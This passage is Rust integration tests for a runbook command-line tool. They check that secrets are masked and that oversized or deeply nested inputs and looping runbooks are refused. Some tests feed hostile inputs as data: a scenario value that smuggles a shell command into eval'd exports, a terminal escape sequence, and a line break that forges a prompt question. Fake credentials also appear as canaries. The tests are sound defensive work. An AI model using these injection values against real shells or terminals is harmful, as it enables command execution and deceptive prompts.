/// says so, names the variable to use instead, and never repeats the value; a param that
/// is not a secret is not warned about. A required secret's help names the variable first.
#[test]
fn a_secret_given_on_the_command_line_is_warned_about() {
    let canary = crate::support::CANARIES[0];
    let script = "runbook(#{ id: \"t\", title: \"t\" });\nparam(\"token\", #{ secret: true, env: \"T_TOKEN\", required: false });\nparam(\"app\", #{ default: \"a\" });\nstep(\"s\", \"S\", |ctx| {});\n";
    for command in ["exec", "repl"] {
        let t = with_script(command, "t.rhai", script);
        let t = if command == "exec" {
            t.args(&["--yes"])
        } else {
            t
        };
        let out = t
            .args(&["-p", &format!("token={canary}"), "-p", "app=b"])
            .run();
        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
        out.stderr_has("warning: --param token puts a secret on the command line, where other users of this machine can read it (ps) while the run lasts and the shell keeps it in its history; set T_TOKEN in the environment instead");
        assert!(!out.stderr.contains("--param app"), "{}", out.stderr);
        out.assert_absent(canary);
    }
    let required = "runbook(#{ id: \"t\", title: \"t\" });\nparam(\"token\", #{ secret: true, env: \"T_TOKEN\", required: true });\nstep(\"s\", \"S\", |ctx| {});\n";
    run_safely(with_script("exec", "t.rhai", required).args(&["--yes"]))
        .exit(Exit::Usage)
        .stderr_has("set T_TOKEN (or pass --param token=..., which `ps` shows)");
}

/// A malformed `--param` is often a token pasted without its `NAME=`: the error names it by
/// position, and by the declared param it starts with, never repeating the rest. Before:
/// `--param 'token:S' is not of the form NAME=VALUE`, in `exec` and in the REPL.
#[test]
fn a_malformed_param_is_named_by_position_never_repeated() {
    let canary = crate::support::CANARIES[0];
    let script = "runbook(#{ id: \"t\", title: \"t\" });\nparam(\"token\", #{ secret: true, required: false });\nstep(\"s\", \"S\", |ctx| {});\n";
    let cases = [
        (
            format!("token:{canary}"),
            "--param #2 (for 'token') is not of the form NAME=VALUE",
        ),
        (
            canary.to_string(),
            "--param #2 is not of the form NAME=VALUE",
        ),
        (format!("{canary}=="), "--param #2 names no declared param"),
        // A base64 token with its padding: letters and digits before the '=' (a cold
        // review found it echoed as "unknown param '…'").
        (
            "c2VjcmV0dG9rZW4xMjM0NQ==".to_string(),
            "--param #2 names no declared param",
        ),
    ];
    for command in ["exec", "repl"] {
        for (given, expect) in &cases {
            let t = with_script(command, "t.rhai", script);
            let t = if command == "exec" {
                t.args(&["--yes"])
            } else {
                t
            };
            let out = run_safely(t.args(&["-p", "token=x", "-p", given]));
            out.exit(Exit::Usage)
                .stderr_has(expect)
                .stderr_has("not repeated");
            assert!(
                !out.stderr.contains("c2VjcmV0dG9rZW4xMjM0NQ"),
                "{}",
                out.stderr
            );
        }
    }
}

/// A server on loopback that answers every request with `body`.
fn answer_server(body: String, content_type: &'static str) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { return };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = s
                .write_all(head.as_bytes())
                .and_then(|_| s.write_all(body.as_bytes()));
        }
    });
    format!("http://{addr}")
}

/// XML nested 200,000 levels deep is refused unread, with its own code, and the run's lock
/// is released. Before: 12 GB of memory, an abort, and the lock left behind.
#[test]
fn deeply_nested_xml_is_refused_unread() {
    let url = answer_server("<a>".repeat(200_000), "text/xml");
    let runbook = r#"runbook(#{ id: "xml", title: "Deep XML", secret: "X_KEY" });
param("url", #{ help: "where" });
step("get", "Read deep XML", |ctx| {
    let r = http::get(`${ctx.params.url}/deep`);
    print(`read ${r.status}`);
});
"#;
    let out = run_safely(with_script("exec", "xml.rhai", runbook).args(&[
        "--yes",
        "--param",
        &format!("url={url}"),
    ]));
    out.exit(Exit::StepFailed)
        .stderr_has("runbook::limit::xml_depth")
        .stderr_has("is XML nested deeper than 64 levels; it is not read");
    assert!(!out.stdout.contains("read 200"), "{}", out.stdout);
    let locks = out.path().join("state/locks");
    assert_eq!(
        std::fs::read_dir(&locks).map(|d| d.count()).unwrap_or(0),
        0,
        "a lock was left behind"
    );
}

/// A 1 GB answers file, scenario, runbook or runbook.toml is refused before it is read,
/// naming the file and the limit. Before: the process read it whole and aborted.
#[test]
fn huge_input_files_are_refused_unread() {
    let t = with_script(
        "exec",
        "tiny.rhai",
        "runbook(#{ id: \"tiny\", title: \"t\" });\nstep(\"s\", \"S\", |ctx| {});\n",
    );
    let dir = t.path().to_path_buf();
    let huge = |name: &str| {
        let path = dir.join(name);
        // Sparse: a gigabyte on paper, nothing on disk.
        std::fs::File::create(&path)
            .unwrap()
            .set_len(1 << 30)
            .unwrap();
        path
    };
    huge("answers.toml");
    huge("scenario.toml");
    huge("big.rhai");
    let out = run_safely(t.args(&["--yes", "--answers", "answers.toml"]));
    out.stderr_has("runbook::limit::file_size")
        .stderr_has("answers.toml is 1073741824 bytes; an input file may be at most 8388608 bytes");
    let out = run_safely(out.next().args(&[
        "exec",
        "tiny.rhai",
        "--sandbox",
        "--yes",
        "--scenario",
        "scenario.toml",
    ]));
    out.stderr_has("scenario.toml is 1073741824 bytes; a scenario may be at most 8388608 bytes");
    let out = run_safely(out.next().args(&["check", "big.rhai"]));
    out.stderr_has("big.rhai is 1073741824 bytes; an input file may be at most");
    huge("runbook.toml");
    let out = run_safely(out.next().args(&["exec", "tiny.rhai", "--yes"]));
    out.stderr_has("./runbook.toml is not a regular file of at most 8388608 bytes");
}

/// A REPL input that never ends (an unclosed string two megabytes long) is dropped at
/// 1 MiB with an error, and the session goes on. Before: it was held whole, however large.
#[test]
fn an_endless_repl_input_is_dropped_at_its_limit() {
    let input = format!("let s = \"{}\nprint(\"after\");\n", "x".repeat(2 << 20));
    let out = Test::new().args(&["repl", "--sandbox"]).stdin(&input).run();
    out.exit(Exit::StepFailed)
        .stderr_has("runbook::limit::repl_input: an input is at most 1048576 bytes")
        .stderr_has("  | after");
    assert!(
        out.stderr.len() < 10_000,
        "{} bytes of stderr",
        out.stderr.len()
    );
}

/// Four runbooks whose top level never returns, and one that spins: `list` loads them side
/// by side, names each with why, and lists the good one (`time runbook list` on such a
/// folder: about one load budget, 5 s, where it took 20 s one after another).
#[test]
fn list_loads_a_folder_of_hostile_files_side_by_side_and_names_each() {
    let mut t = Test::new().file(
        "runbooks/good.rhai",
        "runbook(#{ id: \"good\", title: \"Good\" });\nstep(\"s\", \"S\", |ctx| {});\n",
    );
    for i in 1..=4 {
        t = t.file(
            &format!("runbooks/h{i}.rhai"),
            &format!(
                "runbook(#{{ id: \"h{i}\", title: \"Hostile\" }});\nloop {{ time::sleep(600); }}\n"
            ),
        );
    }
    let out = t.args(&["list", "--json"]).run();
    out.exit(Exit::Ok);
    let listed = out.json();
    let listed = listed.as_array().unwrap();
    assert_eq!(listed.len(), 5, "{listed:?}");
    assert_eq!(listed[0]["id"], "good");
    for i in 1..=4 {
        let broken = listed
            .iter()
            .find(|l| {
                l["path"]
                    .as_str()
                    .is_some_and(|p| p.ends_with(&format!("h{i}.rhai")))
            })
            .unwrap();
        assert!(
            broken["error"]
                .as_str()
                .is_some_and(|e| e.contains("ran past its limit of 5s")),
            "{broken}"
        );
    }
}

/// A scenario (a library's `sandbox/NAME.toml`) whose values hold a quote: the sandbox's
/// exports, evaluated by a shell as the README shows, set them exactly and run nothing; one
/// holding a control character (a terminal escape) is refused, not printed. Before, a
/// quote in `heroku.api_key` ended the export and ran the rest as commands (found by a cold
/// review).
#[test]
fn sandbox_exports_are_quoted_for_the_shell_that_evals_them() {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir().unwrap();
    let pwned = dir.path().join("PWNED");
    let key = format!("hk'; touch {}; echo '", pwned.display());
    let scenario = dir.path().join("quote.toml");
    std::fs::write(
        &scenario,
        format!("[heroku]\napi_key = \"{}\"\n", key.replace('"', "\\\"")),
    )
    .unwrap();
    let mut child = std::process::Command::new(crate::support::binary())
        .args(["sandbox", "--scenario"])
        .arg(&scenario)
        .env("RUNBOOK_STATE_DIR", dir.path().join("state"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut exports = String::new();
    for line in BufReader::new(child.stdout.take().unwrap()).lines() {
        let line = line.unwrap();
        if line == "# ready" {
            break;
        }
        exports.push_str(&line);
        exports.push('\n');
    }
    let _ = child.kill();
    let _ = child.wait();
    let file = dir.path().join("exports.sh");
    std::fs::write(&file, &exports).unwrap();
    let shell = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            ". '{}'; printf %s \"$HEROKU_API_KEY\"",
            file.display()
        ))
        .output()
        .unwrap();
    assert!(!pwned.exists(), "the exports ran a command:\n{exports}");
    assert_eq!(String::from_utf8_lossy(&shell.stdout), key, "{exports}");

    let escape = dir.path().join("escape.toml");
    std::fs::write(
        &escape,
        "[heroku]\napi_key = \"hk\\u001b]52;c;cHduZWQ=\\u0007\"\n",
    )
    .unwrap();
    let out = Test::in_dir(dir.path())
        .args(&["sandbox", "--scenario", &escape.to_string_lossy()])
        .run();
    out.exit(Exit::Usage)
        .stderr_has("the sandbox's value for HEROKU_API_KEY holds a control character (U+001B)");
    assert!(!out.stdout.contains('\u{1b}'), "{}", out.stdout);
}

/// A question holding a line break (a vendor's value inside it: a message id, a dyno's
/// name) is shown on one line, its breaks as ␊: it cannot draw another question above the
/// answer that goes to it. Before, a message id ending "\n  ? Roll back to the old token
/// now" put a roll-back question over the "did the email arrive?" that "y" answered (found
/// by a cold review).
#[test]
fn a_question_with_a_line_break_is_shown_on_one_line() {
    let runbook = r#"
runbook(#{ id: "ask", title: "Asks with a vendor's value" });
step("ask", "Ask", |ctx| {
    let id = "b7bc) arrive?\n\n  ! Validation FAILED\n  ? Roll back to the old token now";
    prompt::confirm(`Did the email (MessageID ${id}) arrive?`);
});
"#;
    let one_line =
        "Did the email (MessageID b7bc) arrive?␊␊  ! Validation FAILED␊  ? Roll back to the old token now) arrive?";
    let out = with_script("exec", "ask.rhai", runbook)
        .args(&["--sandbox", "--yes"])
        .run();
    out.exit(Exit::Ok)
        .stdout_has(&format!("  ? {one_line} yes (--yes)"));
    assert!(!out.stdout.contains("\n  ? Roll back"), "{}", out.stdout);
    let out = with_script("exec", "ask.rhai", runbook)
        .args(&["--sandbox"])
        .run();
    out.stderr_has(&format!("it asks: {one_line}"));
    assert!(!out.stderr.contains("\n  ? Roll back"), "{}", out.stderr);
}

/// Before: an answer's credential under a name that is not a credential's own (Neon's
/// `connection_uri`, a Slack `webhook_url`, a JWT pair's `access` and `refresh`, a
/// `connection_string` with its password, a `passphrase`) came back as text when the script
/// forgot `secrets:`, and went to the screen and the journal (hostile review). Settings
/// about a credential (`access_key_id`, `access_level`, a time) stay text.
#[test]
fn credentials_an_answer_hands_out_under_other_names_come_back_secrets() {
    let held = [
        (
            "connection_uri",
            "postgres://app:NeWpGpAsS0020@ep-x.neon.tech/app",
        ),
        (
            "webhook_url",
            "https://hooks.slack.com/services/T1/B2/wEbHoOkSeCrEt456",
        ),
        (
            "access",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnU2VjcmV0",
        ),
        ("refresh", "rEfReShVaLuE9876543210zz"),
        (
            "connection_string",
            "Server=db;Database=app;Password=CoNnStRpW0rd55;",
        ),
        ("passphrase", "Tr0ub4dor&3-pHrAsE-xyz"),
        ("sessionCookie", "s%3AcOoKiEvAlUe.4f9a8b7c"),
    ];
    let held = [
        held[0],
        held[1],
        held[2],
        held[3],
        held[4],
        held[5],
        held[6],
        (
            "jdbc",
            "jdbc:postgresql://db.example.com/app?user=app&password=JdBcPaSs9911",
        ),
        (
            "storage",
            "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=QWNjb3VudEtleTk5",
        ),
    ];
    // Links of an API, and settings about a credential, stay text: a runbook follows and
    // compares them (a second reading: `hooks_url` made a Secret could not be followed).
    let plain = [
        ("access_key_id", "AKIAIOSFODNN7EXAMPLE"),
        ("access_level", "admin"),
        ("session_expires_at", "2026-12-08T00:00:00Z"),
        (
            "hooks_url",
            "https://api.github.com/repos/acme/infrastructure-live/hooks",
        ),
        (
            "access_tokens_url",
            "https://api.github.com/app/installations/42/access_tokens",
        ),
        ("refresh_url", "https://auth.example.com/oauth/refresh"),
    ];
    let mut body = serde_json::json!({
        "incoming_webhook": { "url": "https://hooks.slack.com/services/T9/B9/iNcOmInGhOoK7788" },
    });
    for (k, v) in plain {
        body[k] = serde_json::Value::String(v.to_string());
    }
    for (k, v) in held {
        body[k] = serde_json::Value::String(v.to_string());
    }
    let url = answer_server(body.to_string(), "application/json");
    let mut checks = String::new();
    for (k, _) in held {
        checks.push_str(&format!(
            "    ensure(secret::is_secret(r.json.{k}), \"{k} is a Secret\");\n"
        ));
    }
    let plain_keys = format!("{:?}", plain.iter().map(|(k, _)| *k).collect::<Vec<_>>());
    let runbook = format!(
        r#"runbook(#{{ id: "create", title: "Create a branch" }});
param("url", #{{ help: "where" }});
step("create", "Create a branch", |ctx| {{
    let r = http::post(`${{ctx.params.url}}/branches`, #{{ json: #{{ name: "b" }}, what: "create branch" }});
{checks}    ensure(secret::is_secret(r.json.incoming_webhook.url), "a webhook's url is a Secret");
    for k in {plain_keys} {{
        ensure(!secret::is_secret(r.json[k]), `${{k}} stays text`);
    }}
    print(r.json);
    print(r.body);
    ctx.created = r.json;
}}).no_undo("a test");
"#
    );
    let out = with_script("exec", "create.rhai", &runbook)
        .args(&["--yes", "--param", &format!("url={url}")])
        .run();
    out.exit(Exit::Ok);
    for (_, v) in plain {
        out.stdout_has(v);
    }
    for (_, v) in held {
        out.assert_absent(v);
    }
    out.assert_absent("iNcOmInGhOoK7788");
    out.assert_absent("JdBcPaSs9911");
    out.assert_absent("QWNjb3VudEtleTk5");
    out.assert_absent("NeWpGpAsS0020");
    out.assert_absent("CoNnStRpW0rd55");
}

/// Before: a param named as a webhook, given its URL as text, passed: the URL (whoever has
/// it can post) went to the banner, the journal's start and the audit log (hostile review).
/// A default in the runbook is refused the same way.
#[test]
fn a_webhook_url_as_text_is_refused_as_a_credential() {
    let runbook = r#"runbook(#{ id: "notify", title: "Notify" });
param("slack_webhook_url", #{ help: "where to notify" });
step("s", "S", |ctx| { print(ctx.params); }).no_undo("a test");
"#;
    let hook = "https://hooks.slack.com/services/T1/B2/wEbHoOkSeCrEt456";
    let out = run_safely(with_script("exec", "notify.rhai", runbook).args(&[
        "--yes",
        "--param",
        &format!("slack_webhook_url={hook}"),
    ]));
    out.exit(Exit::Usage).stderr_has(
        "param 'slack_webhook_url' is named as a credential, its value looks like one, and it is not declared a Secret",
    );
    out.assert_absent(hook);
    let with_default = runbook.replace(
        r#"#{ help: "where to notify" }"#,
        &format!(r#"#{{ help: "where to notify", default: "{hook}" }}"#),
    );
    check_text("notify.rhai", &with_default)
        .exit(Exit::Usage)
        .stderr_has("param 'slack_webhook_url' is named as a credential");
    // Its timeout is a setting, and a hook's name given a name is a name.
    let setting = r#"runbook(#{ id: "notify", title: "Notify" });
param("webhook_timeout", #{ default: "30", help: "seconds" });
param("deploy_hook", #{ default: "DEPLOY_HOOK_URL", help: "the Infisical secret holding it" });
step("s", "S", |ctx| { print(`${ctx.params.webhook_timeout} ${ctx.params.deploy_hook}`); }).no_undo("a test");
"#;
    let out = with_script("check", "notify.rhai", setting).run();
    out.exit(Exit::Ok);
}

/// Before: a URL held as a Secret, refused for a host outside the egress, had its host named
/// in the refusal: on the screen, in the journal and the audit log. A webhook's host can be
/// its credential (`https://eo4f8a2c9b1d7e3f.m.pipedream.net/`) (hostile review).
#[test]
fn a_secret_urls_host_is_not_named_when_the_egress_refuses_it() {
    let runbook = r#"runbook(#{ id: "hook", title: "Post to a hook" });
step("post", "Post", |ctx| {
    let u = secret::from_env("LEAK_HOOK");
    http::post(u, #{ json: #{ text: "hi" } });
}).no_undo("a test");
"#;
    let out = with_script("exec", "hook.rhai", runbook)
        .env("LEAK_HOOK", "https://eo4f8a2c9b1d7e3f.m.pipedream.net/")
        .args(&["--yes", "--json"])
        .run();
    out.exit(Exit::StepFailed).stderr_has(
        "http::post: the host of a URL held as a Secret is not in this runbook's egress (it declares none); nothing was sent",
    );
    out.assert_absent("eo4f8a2c9b1d7e3f");
}

/// Before: the path token or a query value of a URL held as a Secret, echoed alone by the
/// vendor under a field with no credential's name (a Discord webhook's `"last"`, an Azure
/// function's `?code=`), came back as text to the screen and the journal (hostile review).
#[test]
fn a_part_of_a_secret_url_echoed_alone_is_masked() {
    let token = "DiScOrDtOkEnAbCdEf0123456789xyz";
    let code = "AzFuncCode0123456789abcXYZ==";
    // A long segment shaped like a name (a repository's) is no credential: it stays text
    // where an answer names it (a second reading: registered, it made later answers Secrets).
    let body = serde_json::json!({
        "last": token,
        "q": { "code": code },
        "name": "HttpTrigger",
        "repo": "infrastructure-live",
    });
    let url = answer_server(body.to_string(), "application/json");
    let runbook = r#"runbook(#{ id: "hook", title: "Read a hook" });
step("read", "Read", |ctx| {
    let r = http::get(secret::from_env("HOOK"));
    print(r.json);
    ctx.read = r.json;
}).no_undo("a test");
"#;
    let out = with_script("exec", "hook.rhai", runbook)
        .env(
            "HOOK",
            &format!(
                "{url}/api/infrastructure-live/webhooks/1234/{token}?code={}",
                code.replace('=', "%3D")
            ),
        )
        .args(&["--yes", "--json"])
        .run();
    out.exit(Exit::Ok)
        .stdout_has("HttpTrigger")
        .stdout_has("\"infrastructure-live\"");
    out.assert_absent(token);
    out.assert_absent(code);
}

/// A state directory whose runs folder cannot be written: before, `runbook::io` and the
/// OS error alone, no line saying what to check (fault review).
#[test]
fn an_unwritable_runs_folder_says_what_to_check() {
    let t = with_script(
        "exec",
        "tiny.rhai",
        "runbook(#{ id: \"tiny\", title: \"t\" });\nstep(\"s\", \"S\", |ctx| {});\n",
    );
    // Root ignores a folder's mode: a file where the folder should be fails for everyone.
    std::fs::create_dir_all(t.path().join("state")).unwrap();
    std::fs::write(t.path().join("state/runs"), "not a folder").unwrap();
    let out = run_safely(t.args(&["--yes"]));
    out.exit(Exit::Usage)
        .stderr_has("runbook::io")
        .stderr_has("check the path");
}
